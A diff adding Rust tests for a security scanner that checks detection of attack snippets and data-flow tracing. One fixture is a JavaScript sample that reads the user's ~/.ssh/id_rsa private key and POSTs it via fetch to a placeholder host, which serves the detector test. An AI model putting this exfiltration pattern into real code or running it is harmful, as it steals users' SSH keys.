@@ -1,0 +1,26 @@
+use super::*;
+
+#[test]
+fn attacks_are_found_however_they_are_written() {
+    let corpus = snippets(include_str!("attacks.txt"));
+    assert!(corpus.len() >= 40);
+    let missed: Vec<String> = corpus
+        .iter()
+        .filter(|(name, text)| {
+            worst(text, language(name))
+                != Some(if name.contains("(warn)") { Severity::Warn } else { Severity::Critical })
+        })
+        .map(|(name, text)| format!("{name}: {:?}", scan("f", text.as_bytes(), language(name))))
+        .collect();
+    assert!(missed.is_empty(), "{} of {}:\n{}", missed.len(), corpus.len(), missed.join("\n"));
+}
+
+#[test]
+fn the_way_of_the_data_is_named() {
+    let text = "import { readFileSync as r } from 'node:fs';\nconst key = r(`${process.env.HOME}/.ssh/id_rsa`);\nconst { length, ...rest } = { key };\nfunction ship(what) {\n  return fetch('https://a.example', { method: 'POST', body: what });\n}\nship(JSON.stringify(rest));";
+    let found = scan("index.js", text.as_bytes(), Language::JavaScript);
+    let [leak, ..] = found.as_slice() else { panic!("{found:?}") };
+    assert_eq!((leak.rule.as_str(), leak.line), ("potential-exfiltration", 5));
+    let steps: Vec<String> = leak.flow.iter().map(|step| format!("{} {}", step.line, step.what)).collect();
+    assert_eq!(steps, ["2 the file ~/.ssh/id_rsa", "2 key", "3 rest", "4 what", "5 fetch sends it"]);
+}
